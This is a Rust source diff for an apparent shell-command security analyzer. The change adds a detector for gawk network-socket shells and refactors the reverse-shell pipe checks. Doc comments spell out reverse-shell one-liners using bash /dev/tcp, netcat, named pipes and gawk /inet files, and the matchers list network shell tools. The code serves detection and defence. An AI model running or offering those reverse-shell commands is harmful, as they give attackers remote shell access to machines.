@@ -7,11 +7,13 @@ mod flows;
 mod server;
 mod sinks;
 
+use std::ops::Range;
+
 use super::{Check, Matcher as M, Seen};
-use crate::knowledge::exfiltration::{SOCAT_EXEC_TYPES, sender};
+use crate::knowledge::exfiltration::{SOCAT_EXEC_TYPES, Sender, sender};
 use crate::knowledge::interpreters::is_interpreter;
 use crate::knowledge::programs::{Class, in_class, table_name};
-use crate::model::SimpleCommand;
+use crate::model::{CommandAnalysis, SimpleCommand};
 use crate::syntax::words::basename;
 
 pub use flows::{SecretFlow, secret_flows};
@@ -40,7 +42,8 @@ pub(super) const MATCHERS: &[M] = &[
     M::new(REVERSE_SHELL, &["nc", "ncat", "netcat"], &[]).check(Check::NetcatRunsShell),
     M::new(REVERSE_SHELL, &["socat"], &[]).check(Check::SocatRunsShell),
     M::new(REVERSE_SHELL, CODE, &[]).check(Check::InlineReverseShell),
-    M::new(PUBLIC_SERVER, &["python", "pypy", "php"], &[]).check(Check::PublicServer),
+    M::new(REVERSE_SHELL, &["awk", "gawk"], &[]).check(Check::AwkSocketShell),
+    M::new(PUBLIC_SERVER, &["python", "pypy", "php", "ruby"], &[]).check(Check::PublicServer),
 ];
 
 /// bash's network pseudo-files.
@@ -63,18 +66,78 @@ pub(super) fn starts_a_shell(line: &str) -> bool {
     shell && words.all(|w| w.starts_with('-'))
 }
 
+/// Whether `c` is a raw socket program (nc, ncat, netcat, telnet, socat).
+fn is_socket(c: &SimpleCommand) -> bool {
+    table_name(&c.program).and_then(sender) == Some(Sender::Socket) || c.program_lower() == "socat"
+}
+
+/// What the pipes of one analysis connect, computed once for the checks that ask (each
+/// question is then answered in constant time, whatever the number of commands).
+pub(crate) struct PipeFacts {
+    /// Per command: a socket program reads its output.
+    feeds_socket: Vec<bool>,
+    /// Running count of socket programs before each index.
+    sockets_before: Vec<u32>,
+    /// Running count of commands before each index that print more than literal text
+    /// (anything but `echo` and `printf`).
+    non_literal_before: Vec<u32>,
+    /// The last shell that reads its commands from stdin.
+    last_stdin_shell: Option<usize>,
+}
+
+impl PipeFacts {
+    pub(crate) fn new(analysis: &CommandAnalysis) -> PipeFacts {
+        let n = analysis.commands.len();
+        let mut diff = vec![0i64; n + 1];
+        let mut sockets_before = vec![0u32; n + 1];
+        let mut non_literal_before = vec![0u32; n + 1];
+        let mut last_stdin_shell = None;
+        for (i, c) in analysis.commands.iter().enumerate() {
+            let socket = is_socket(c);
+            if socket && let Some(r) = &c.stdin_from {
+                let end = r.end.min(n);
+                let start = r.start.min(end);
+                diff[start] += 1;
+                diff[end] -= 1;
+            }
+            sockets_before[i + 1] = sockets_before[i] + u32::from(socket);
+            let literal = matches!(c.program_lower().as_str(), "echo" | "printf");
+            non_literal_before[i + 1] = non_literal_before[i] + u32::from(!literal);
+            if in_class(&c.program_lower(), Class::Shell) && c.reads_code_from_stdin {
+                last_stdin_shell = Some(i);
+            }
+        }
+        let mut running = 0i64;
+        let feeds_socket = diff[..n]
+            .iter()
+            .map(|d| {
+                running += d;
+                running > 0
+            })
+            .collect();
+        PipeFacts {
+            feeds_socket,
+            sockets_before,
+            non_literal_before,
+            last_stdin_shell,
+        }
+    }
+
+    fn count(counts: &[u32], r: &Range<usize>) -> u32 {
+        let end = r.end.min(counts.len() - 1);
+        counts[end] - counts[r.start.min(end)]
+    }
+}
+
 /// A shell reading its commands from a network connection or sending its output to one:
 /// `bash -i >& /dev/tcp/h/p 0>&1`, `cat fifo | sh -i | nc h p > fifo`, `nc h p | sh`, and
 /// `exec 5<>/dev/tcp/h/p` followed by a shell.
 pub(super) fn shell_on_socket(seen: &Seen<'_>) -> bool {
     let cmd = seen.cmd;
-    let commands = &seen.analysis.commands;
+    let pipes = || seen.pipes.get_or_init(|| PipeFacts::new(seen.analysis));
     if cmd.program_lower() == "exec" {
         let opens = cmd.writes.iter().any(|w| is_socket_path(w));
-        return opens
-            && commands[seen.index + 1..]
-                .iter()
-                .any(|c| in_class(&c.program_lower(), Class::Shell) && c.reads_code_from_stdin);
+        return opens && pipes().last_stdin_shell.is_some_and(|s| s > seen.index);
     }
     // A script file or `-c` string: its output on a socket is data, not a shell.
     let interactive = cmd.reads_code_from_stdin || cmd.flags.contains("-i");
@@ -86,27 +149,20 @@ pub(super) fn shell_on_socket(seen: &Seen<'_>) -> bool {
     {
         return true;
     }
-    let socket = |c: &SimpleCommand| {
-        table_name(&c.program).and_then(sender)
-            == Some(crate::knowledge::exfiltration::Sender::Socket)
-            || c.program_lower() == "socat"
-    };
+    if !cmd.in_pipeline && cmd.stdin_from.is_none() {
+        return false;
+    }
+    let pipes = pipes();
     // Fed by a socket, or feeding one (a script it was given in the pipe is no shell).
     let fed = cmd
         .stdin_from
-        .clone()
-        .is_some_and(|r| commands[r.clone()].iter().any(socket));
-    let literal_input = cmd.stdin_from.clone().is_some_and(|r| {
-        commands[r]
-            .iter()
-            .all(|c| matches!(c.program_lower().as_str(), "echo" | "printf"))
-    });
-    let feeds = commands.iter().any(|c| {
-        c.stdin_from
-            .as_ref()
-            .is_some_and(|r| r.contains(&seen.index))
-            && socket(c)
-    });
+        .as_ref()
+        .is_some_and(|r| PipeFacts::count(&pipes.sockets_before, r) > 0);
+    let literal_input = cmd
+        .stdin_from
+        .as_ref()
+        .is_some_and(|r| PipeFacts::count(&pipes.non_literal_before, r) == 0);
+    let feeds = pipes.feeds_socket.get(seen.index).copied().unwrap_or(false);
     fed || (feeds && !literal_input)
 }
 
@@ -144,10 +200,28 @@ pub(super) fn public_server(seen: &Seen<'_>) -> bool {
     server::public_server(seen, seen.cx)
 }
 
+/// gawk's network special files (`/inet/tcp/0/HOST/PORT`) with commands run on what comes
+/// in: `cmd |& getline`, `system(…)`.
+pub(super) fn awk_socket_shell(cmd: &SimpleCommand) -> bool {
+    cmd.args.iter().any(|a| {
+        let socket = ["/inet/", "/inet4/", "/inet6/"]
+            .iter()
+            .any(|p| a.contains(p));
+        socket && (a.contains("getline") || a.contains("system("))
+    })
+}
+
 /// Inline interpreter code that wires a shell to a socket.
 pub(super) fn inline_reverse_shell(cmd: &SimpleCommand) -> bool {
     cmd.inline_network.as_ref().is_some_and(|n| n.reverse_shell)
 }
+
+#[cfg(test)]
+use crate::{
+    analyze,
+    model::{CommandContext, Destination},
+    rules::packs::evaluate_packs,
+};
 
 #[cfg(test)]
 mod tests;
